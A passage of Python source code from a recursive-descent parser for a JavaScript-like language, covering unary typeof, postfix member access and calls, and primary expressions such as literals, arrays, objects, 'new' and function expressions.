        if token.is_keyword("typeof"):
            self._advance()
            operand = self._unary()
            return ast.Unary(operator="typeof", operand=operand, line=token.line)
        return self._postfix()

    def _postfix(self) -> ast.Node:
        node = self._primary()
        while True:
            token = self._peek()
            if token.is_punct("."):
                self._advance()
                name = self._property_name()
                node = ast.MemberAccess(target=node, name=name, computed=False, line=token.line)
            elif token.is_punct("["):
                self._advance()
                index = self._expression()
                self._expect_punct("]")
                node = ast.MemberAccess(target=node, index=index, computed=True, line=token.line)
            elif token.is_punct("("):
                arguments = self._argument_list()
                node = ast.Call(callee=node, arguments=arguments, line=token.line)
            else:
                break
        return node

    def _property_name(self) -> str:
        token = self._peek()
        if token.type in (TokenType.IDENTIFIER, TokenType.KEYWORD):
            self._advance()
            return token.value
        raise ParseError(f"expected property name, found {token.value!r}", token.line, token.column)

    def _argument_list(self) -> list[ast.Node]:
        self._expect_punct("(")
        arguments: list[ast.Node] = []
        if not self._peek().is_punct(")"):
            while True:
                arguments.append(self._expression())
                if not self._match_punct(","):
                    break
        self._expect_punct(")")
        return arguments

    def _primary(self) -> ast.Node:
        token = self._peek()
        if token.type is TokenType.NUMBER:
            self._advance()
            return ast.NumberLiteral(value=float(token.value), line=token.line)
        if token.type is TokenType.STRING:
            self._advance()
            return ast.StringLiteral(value=token.value, line=token.line)
        if token.is_keyword("true"):
            self._advance()
            return ast.BooleanLiteral(value=True, line=token.line)
        if token.is_keyword("false"):
            self._advance()
            return ast.BooleanLiteral(value=False, line=token.line)
        if token.is_keyword("null"):
            self._advance()
            return ast.NullLiteral(line=token.line)
        if token.is_keyword("new"):
            self._advance()
            constructor = self._expect_identifier().value
            arguments = self._argument_list() if self._peek().is_punct("(") else []
            return ast.NewExpression(constructor=constructor, arguments=arguments, line=token.line)
        if token.is_keyword("function"):
            self._advance()
            name = None
            if self._peek().type is TokenType.IDENTIFIER:
                name = self._advance().value
            parameters = self._parameter_list()
            body = self._block()
            return ast.FunctionExpression(parameters=parameters, body=body, name=name, line=token.line)
        if token.type is TokenType.IDENTIFIER:
            self._advance()
            return ast.Identifier(name=token.value, line=token.line)
        if token.is_punct("("):
            self._advance()
            expression = self._expression()
            self._expect_punct(")")
            return expression
        if token.is_punct("["):
            self._advance()
            elements: list[ast.Node] = []
            if not self._peek().is_punct("]"):
                while True:
                    elements.append(self._expression())
                    if not self._match_punct(","):
                        break
            self._expect_punct("]")
            return ast.ArrayLiteral(elements=elements, line=token.line)
        if token.is_punct("{"):
            self._advance()
            entries: list[tuple[str, ast.Node]] = []
            if not self._peek().is_punct("}"):
                while True:
                    key_token = self._peek()
                    if key_token.type in (TokenType.IDENTIFIER, TokenType.STRING, TokenType.KEYWORD):
                        self._advance()
                        key = key_token.value
                    else:
                        raise ParseError("expected object key", key_token.line, key_token.column)
                    self._expect_punct(":")
                    entries.append((key, self._expression()))
                    if not self._match_punct(","):
                        break
            self._expect_punct("}")
            return ast.ObjectLiteral(entries=entries, line=token.line)
        raise ParseError(f"unexpected token {token.value!r}", token.line, token.column)
